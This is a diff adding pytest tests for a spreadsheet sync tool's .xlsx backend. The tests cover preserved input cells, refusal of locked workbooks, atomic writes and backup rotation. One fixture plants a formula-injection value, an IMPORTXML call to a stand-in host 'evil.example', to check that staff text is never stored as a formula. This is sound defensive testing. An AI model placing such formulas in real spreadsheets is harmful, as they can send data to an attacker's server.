@@ -1,0 +1,142 @@
+"""The .xlsx backend on real files: input cells survive a sync, staff text never becomes a
+formula, open workbooks are refused, writes are atomic with a few backups."""
+
+from __future__ import annotations
+
+import zipfile
+from datetime import date
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from sheets_sync.backends.xlsx import BACKUP_FOLDER, BACKUPS_KEPT, XlsxBackend
+from sheets_sync.config import load_config
+from sheets_sync.errors import SheetAccessError, WorkbookOpenError
+from sheets_sync.sync import RunOptions, run
+from tests.workbooks import BASELINE_TODAY, baseline, config_file, input_cells, write_xlsx
+
+INPUT_TITLES = ["KPI", "サイクル", "KPI記録", "証拠"]
+
+
+@pytest.fixture
+def client(tmp_path: Path) -> Path:
+    """A client folder with a tricky but valid workbook and its config."""
+    tabs = baseline()
+    tabs["サイクル"][2][3] = '=IMPORTXML("http://evil.example/","//a")'
+    tabs["証拠"][3][4] = "+81 90-1234-5678"
+    tabs["証拠"][3][5] = "@SUM(A1)"
+    write_xlsx(tmp_path / "book.xlsx", tabs)
+    return config_file(tmp_path)
+
+
+def sync(config_path: Path, today: date = BASELINE_TODAY) -> None:
+    run(load_config(config_path), RunOptions(as_of=today, no_agenda=True))
+
+
+def test_every_input_cell_is_unchanged_after_a_sync(client: Path) -> None:
+    """Values, types and number formats of the four input tabs are identical after two syncs."""
+    before = input_cells(client.parent / "book.xlsx", INPUT_TITLES)
+    sync(client)
+    sync(client)
+    assert input_cells(client.parent / "book.xlsx", INPUT_TITLES) == before
+
+
+def test_the_sample_workbook_keeps_its_input_cells(tmp_path: Path) -> None:
+    """The template (validation, comments, dates) survives a sync cell for cell."""
+    from sheets_sync.clients import new_xlsx_client
+
+    made = new_xlsx_client("さくら", "ja", config_dir=tmp_path, slug="s", sample=True,
+                           today=date(2026, 11, 25))  # fmt: skip
+    workbook = Path(made.workbook)
+    titles = [
+        t for t in load_workbook(workbook).sheetnames if t not in ("サマリー", "チェック", "ログ")
+    ]
+    before = input_cells(workbook, titles)
+    validations = {ws.title: len(ws.data_validations.dataValidation)
+                   for ws in load_workbook(workbook).worksheets}  # fmt: skip
+    sync(made.config_path, date(2026, 11, 25))
+    assert input_cells(workbook, titles) == before
+    after = {ws.title: len(ws.data_validations.dataValidation)
+             for ws in load_workbook(workbook).worksheets}  # fmt: skip
+    assert {t: after[t] for t in titles} == {t: validations[t] for t in titles}
+
+
+def test_staff_text_is_written_as_text_never_as_a_formula(client: Path) -> None:
+    """A hypothesis starting with = shows as typed in the Summary, and the generated sheets
+    hold no formula at all."""
+    sync(client)
+    book = load_workbook(client.parent / "book.xlsx")
+    texts = [c.value for row in book["サマリー"].iter_rows() for c in row if c.value]
+    assert '=IMPORTXML("http://evil.example/","//a")' in texts
+    with zipfile.ZipFile(client.parent / "book.xlsx") as archive:
+        for title in ("サマリー", "チェック", "ログ"):
+            index = book.sheetnames.index(title) + 1
+            xml = archive.read(f"xl/worksheets/sheet{index}.xml").decode()
+            assert "<f>" not in xml and "<f " not in xml, title
+
+
+def test_generated_tabs_are_replaced_not_added(client: Path) -> None:
+    """Two syncs leave exactly one Summary, Checks and Log; the Log grows by one row a run."""
+    sync(client)
+    sync(client)
+    book = load_workbook(client.parent / "book.xlsx")
+    assert sorted(book.sheetnames) == sorted([*INPUT_TITLES, "サマリー", "チェック", "ログ"])
+    assert book.sheetnames[0] == "サマリー"
+    log_rows = [row for row in book["ログ"].iter_rows(min_row=2, values_only=True) if row[0]]
+    assert [row[1:3] for row in log_rows] == [("sync", "ok"), ("sync", "ok")]
+
+
+@pytest.mark.parametrize("lock_name", ["~$book.xlsx", ".~lock.book.xlsx#"])
+def test_a_workbook_open_in_excel_or_libreoffice_is_refused(client: Path, lock_name: str) -> None:
+    """With the office lock file present the sync writes nothing (exit 3)."""
+    workbook = client.parent / "book.xlsx"
+    original = workbook.read_bytes()
+    (client.parent / lock_name).write_text("someone")
+    with pytest.raises(WorkbookOpenError) as raised:
+        sync(client)
+    assert raised.value.exit_code == 3
+    assert "Close it" in str(raised.value)
+    assert workbook.read_bytes() == original
+
+
+def test_a_file_changed_during_the_run_is_not_overwritten(client: Path) -> None:
+    """If staff saved the file between our read and our write, our write is abandoned."""
+    workbook = client.parent / "book.xlsx"
+    backend = XlsxBackend(workbook)
+    backend.read()
+    write_xlsx(workbook, {**baseline(), "メモ": [["staff saved this"]]})
+    saved = workbook.read_bytes()
+    with pytest.raises(SheetAccessError, match="changed while"):
+        backend.write([])
+    assert workbook.read_bytes() == saved
+
+
+def test_only_a_few_backups_are_kept_and_no_temp_file_is_left(client: Path) -> None:
+    """Each write keeps the previous file as a backup, at most BACKUPS_KEPT of them."""
+    for _ in range(BACKUPS_KEPT + 2):
+        sync(client)
+    backups = list((client.parent / BACKUP_FOLDER).glob("book.*.xlsx"))
+    assert len(backups) == BACKUPS_KEPT
+    assert not list(client.parent.glob("*.tmp"))
+    assert all(load_workbook(b).sheetnames for b in backups)
+
+
+def test_a_corrupt_workbook_is_a_clear_error(tmp_path: Path) -> None:
+    """A damaged file is exit 3 with a message that points at the backups."""
+    (tmp_path / "book.xlsx").write_bytes(b"PK\x03\x04 this is not a real zip")
+    config = config_file(tmp_path)
+    with pytest.raises(SheetAccessError, match=BACKUP_FOLDER):
+        sync(config)
+
+
+def test_checks_link_to_the_cell(tmp_path: Path) -> None:
+    """Each check row links to the bad cell in its tab."""
+    tabs = baseline()
+    tabs["KPI記録"][2][2] = "たくさん"
+    write_xlsx(tmp_path / "book.xlsx", tabs)
+    sync(config_file(tmp_path))
+    sheet = load_workbook(tmp_path / "book.xlsx")["チェック"]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[7].value == "not_a_number")
+    assert row[6].hyperlink.location == "'KPI記録'!C3"
+    assert row[4].value == "たくさん" and row[1].value == "KPI記録" and row[2].value == 3
